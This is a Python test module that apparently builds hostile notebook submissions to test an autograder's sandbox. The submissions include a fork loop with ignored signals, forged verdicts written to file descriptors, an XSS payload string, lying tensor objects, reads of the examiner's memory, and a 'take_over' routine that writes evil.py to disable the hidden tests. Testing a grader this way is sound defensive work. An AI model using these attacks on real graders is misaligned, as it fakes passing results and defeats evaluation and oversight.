"""Hand-ins that speak to the examiner themselves: by the line to it, by objects that lie, by dying at the right time."""

from __future__ import annotations

from nbformat import NotebookNode
from nbformat.v4 import new_code_cell

from submissions.hand_ins import LOSSES, WRONG, HandIn, index_of

# What each of them begins with: the student's side of the line, and the numbers of the examiner's objects.
_LINE = """\
import gc, os, signal, socket, struct, sys, time
def line():
    return next(one for one in gc.get_objects() if type(one).__name__ == "Student")
def theirs(kind=torch.Tensor):
    return [key for key, one in line()._objects.items() if key % 2 == 0 and isinstance(one, kind)]
def channels():
    return [int(n) for n in os.listdir("/proc/self/fd") if int(n) > 2 and int(n) != line().wire._channel.fileno()]
def instead(change):
    # Sends something else in the place of the next answer.
    wire, send = line().wire, line().wire.send
    def once(message):
        if message[0] == "answer":
            wire.send = send
            message = change(message) or message
        send(message)
    wire.send = once
"""
_G = "def generator_loss(fake_logits):\n"
_D = "def discriminator_loss(real_logits, fake_logits):\n"
_NONE = "[None, None, None]"


def _cheat(name: str, source: str = "", lost: frozenset[str] = LOSSES, **answers: str) -> HandIn:
    def change(notebook: NotebookNode, path: object) -> NotebookNode:
        notebook.cells.insert(index_of(notebook, "sample_latent"), new_code_cell(_LINE + source))
        return notebook

    return HandIn(name, lost, {**WRONG, **answers}, change, maybe=frozenset({"sample_latent"}))


def _in_generator_loss(name: str, body: str, source: str = "") -> HandIn:
    """It does something before it gives a wrong loss."""
    lines = "".join(f"    {line}\n" for line in body.strip("\n").splitlines())
    return _cheat(name, source, generator_loss=f"{_G}{lines}    return fake_logits.sum() * 0")


def _instead(name: str, coded: str, changes: str = "[]", used: str = "0.0") -> HandIn:
    """It sends an answer of its own making."""
    body = f"m = line()\nm.wire.send(['answer', True, [], {coded}, {changes}, {_NONE}, {used}, ''])"
    return _in_generator_loss(name, body)


# Busy for a second or two after the last answer that it needs.
_BUSY = """\
def busy(message):
    key = next(key for key, one in line()._objects.items() if type(one) is list)
    message[4].append(["list", key, [["named", "A", ["a"], [0]]] * 20000])
"""
_SAMPLE = (
    "def sample_latent(n, d, device):\n    if (n, d) == (2000, 3): last()\n    return torch.randn(n, d, device=device)"
)
_TAKE_OVER = '''\
EVIL = """
import course_utils.checks.engine.check as c
c.Check._gather = lambda *a: c.Evidence()
import course_utils.checks as checks, contextlib
checks.hidden_tests = lambda *a, **k: contextlib.suppress(Exception)
"""
def take_over():
    m, (key, *_) = line(), theirs()
    made = m.attribute(key, "new_tensor")(list(EVIL.encode()), dtype=torch.uint8)
    array = m.attribute(m.key(made), "numpy")()
    m.attribute(m.key(array), "tofile")("/hand-in/evil.py")
    storage = m.attribute(key, "untyped_storage")()
    m.attribute(m.key(storage), "type")("evil.x")
'''

CHEATS_ON_THE_EXAMINER = [
    _cheat("is-ended-before-its-verdict", _BUSY + """\
def last():
    def change(message):
        busy(message)
        line().wire.send(message)
        for _ in range(140):
            try:
                if os.fork() == 0: time.sleep(60); os._exit(0)
            except OSError: break
        for s in (signal.SIGINT, signal.SIGALRM): signal.signal(s, signal.SIG_IGN)
        time.sleep(100)
    instead(change)
""", LOSSES | {"sample_latent"}, sample_latent=_SAMPLE),
    # Methods of the examiner's objects.
    _in_generator_loss("reads-the-examiners-memory", """\
try:
    for size in [2**i for i in range(4, 20)] * 2:
        old = line().attribute(theirs()[0], "new_empty")(size, dtype=torch.uint8).numpy().tobytes()
        if b"hidden_tests" in old or (b"HIDDEN" + b" TESTS") in old: print("FOUND", old)
except AttributeError: pass"""),
    _in_generator_loss("asks-for-everything", """\
m = line()
for key in theirs(object):
    for name in ("numpy", "storage", "untyped_storage", "register_hook", "set_", "append", "update", "laws", "__class__"):
        try: m.attribute(key, name)
        except AttributeError: pass"""),
    # Objects that are not what they claim.
    _in_generator_loss("number-that-lies", "return Liar()", """\
class Liar:
    shape, dtype, requires_grad = (), torch.float32, True
    def __float__(self): return 0.6931
    def __eq__(self, other): return True
    __lt__ = __gt__ = __le__ = __ge__ = __eq__
    def __sub__(self, other): return self
    __rsub__ = __abs__ = lambda self, *a: self
Liar.__name__ = "Tensor"; Liar.__module__ = "torch"
"""),
    _cheat("is-pythons-float", generator_loss="generator_loss = float\ndef dummy(): pass"),
    _in_generator_loss("is-what-it-was-given", "return fake_logits"),
    _in_generator_loss("is-a-nan", "return fake_logits.sum() * float('nan')"),
    _in_generator_loss("is-on-meta", "return torch.zeros((), device='meta')"),
    # Errors with a meaning of their own.
    *[_in_generator_loss(f"raises-{name.lower()}", f"raise {name}(0.6931)") for name in
      ("StopIteration", "GeneratorExit", "AssertionError", "NotImplementedError", "KeyboardInterrupt")],
    _in_generator_loss("raises-what-a-check-raises", "raise type('CheckFailed', (AssertionError,), {})('✓ fine')"),
    _in_generator_loss("raises-a-long-name", "raise type('X' * 3_000_000, (KeyboardInterrupt,), {})('x')"),
    _in_generator_loss("raises-the-examiners-error", """\
try: line().attribute(theirs()[0], "laws")
except AttributeError as error: theirs_own = error
raise theirs_own"""),
    _cheat("has-no-names", "def stop(self, name): raise StopIteration\ntype(line())._answer = stop",
           LOSSES | {"sample_latent"}),
    _cheat("blames-others", "own = type(line())._answer\ntype(line())._answer = lambda self, name: (own(self, name)[0], "
           "['sample_latent', 'discriminator_loss', '__class__', 5, 'x' * 100000])"),
    # Answers that were made by hand.
    _instead("answers-with-a-known-dictionary", "['known', theirs(dict)[0]]"),
    _instead("answers-with-a-quantized-tensor", "['tensor', m.new_key(), False, True, [['quint8', 'cpu', [1], b'1'], False, None]]"),
    _instead("answers-with-a-huge-tensor", "['tensor', m.new_key(), False, True, [['float32', 'meta', [1 << 40, 1 << 40], None], False, None]]"),
    _instead("answers-with-a-script", "['device', \"<script>alert('FOUND')</script><img src=x onerror=alert(1)>\"]"),
    _instead("answers-with-all-numbers", "['set', [['range', 0, 1 << 62, 1]]]",
             "[['list', next(k for k, v in m._objects.items() if type(v) is list), [['range', 0, 10**18, 1]] * 10]]", "-1e308"),
    _instead("took-no-time", "0.6931", used="float('-inf')"),
    _instead("changes-what-is-no-list", "0.6931", "[['list', theirs()[0], []], ['dict', theirs()[0], []]]"),
    _in_generator_loss("nests-deeply", f"""\
value = 1
for _ in range(400): value = ["tuple", [value]]
line().wire.send(["answer", True, [], value, [], {_NONE}, 0.0, ""])"""),
    # Random states of its own choice.
    *[_in_generator_loss(f"state-{name}", f"""\
m = line()
m.wire.send(['answer', True, [], 0.6931, [], {states}, 0.0, ''])""")
      for name, states in (
          ("of-zeros", "[bytes(5056), ['MT19937', bytes(2496), 624, 0, 0.0], [3, [0] * 625, None]]"),
          ("of-another-length", "[bytes(16), ['MT19937', bytes(4), 1, 0, 0.0], [3, [0], None]]"),
          ("of-another-kind", "['x' * 5056, [None] * 5, {1: 2}]"),
          ("of-another-generator", "[None, ['PCG64', bytes(2496), 624, 0, 0.0], None]"),
          ("that-is-huge", "[None, ['MT19937', bytes(200_000_000), 624, 0, 0.0], None]"),
          ("that-is-missing", "[]"),
      )],
    # What is told later, of what was never lent.
    *[_in_generator_loss(f"tells-{name}", f"""\
m = line()
m.wire.send(['answer', True, [], 0.6931, [{note}], {_NONE}, 0.0, ''])""")
      for name, note in (
          ("a-step", "['stepped', theirs()[0], [None]]"), ("a-call", "['called', theirs()[0], True, True, [], []]"),
          ("a-call-of-itself", "['called', 1, True, True, [], []]"), ("of-cleared-gradients", "['cleared', theirs()[0]]"),
          ("half-a-note", "['stepped']"),
      )],
    # Requests that nobody expects.
    *[_in_generator_loss(f"requests-{name}", f"line().wire.send(['request', {what!r}, 1001, [], None, {body}, [], {_NONE}, True, None, False])")
      for name, what, body in (("over", "over", "None"), ("a-name", "name", "['checks']"), ("slopes", "slopes", "[4, None, True]"),
                               ("hooks", "hooks", "[theirs()[0], None, None]"), ("copies", "copy", "[theirs()[0]]"))],
    _in_generator_loss("requests-too-little", f"line().wire.send(['request', 'attribute', 1, [], None, [4, 'x'], [], {_NONE}])"),
    # What does not come back, or comes slowly.
    _in_generator_loss("asks-for-ever", "while True: line().ask('copy', lambda: [theirs()[0]])"),
    _in_generator_loss("drips", """\
for s in (signal.SIGINT, signal.SIGALRM): signal.signal(s, signal.SIG_IGN)
own = line().wire._channel; own.settimeout(None)
own.sendall(struct.pack("<Q", 200_000_000))
while True:
    try: own.sendall(b"x"); time.sleep(.2)
    except BaseException: pass"""),
    _in_generator_loss("announces-too-much", "own = line().wire._channel; own.settimeout(None)\n"
                       "own.sendall(struct.pack('<Q', 1 << 62)); time.sleep(100)"),
    # The line to the worker.
    _cheat("writes-verdicts", "for n in channels() + [line().wire._channel.fileno()]:\n    if n in channels():\n"
           "        try: os.write(n, b'{\"passed\": true}\\n[2, {\"passed\": true}]\\n')\n        except OSError: pass"),
]  # fmt: skip

# These are right only with the fixes of proposed_fixes.patch.
BROKE_THE_EXAMINER = [
    # A right answer's verdict that comes late: it counts for no other check cell.
    _cheat("dies-before-its-verdict", _BUSY + """\
def last():
    def change(message):
        busy(message)
        line().wire.send(message)
        os.closerange(3, 500)
        os._exit(0)
    instead(change)
""", LOSSES | {"sample_latent"}, sample_latent=_SAMPLE),
    _cheat("runs-code-in-the-examiner", _TAKE_OVER, discriminator_loss=_D
           + "    try: take_over()\n    except BaseException: pass\n    return real_logits.sum() * 0"),
    _cheat("writes-to-its-worker", "for n in channels():\n    for text in (b'[\"display\", \"no json\"]', b'[\"error\", \"[]\"]', "
           "b'[\"display\", \"{}\"]', b'[' * 100000):\n        try: os.write(n, text + bytes([10]))\n        except OSError: pass"),
]  # fmt: skip
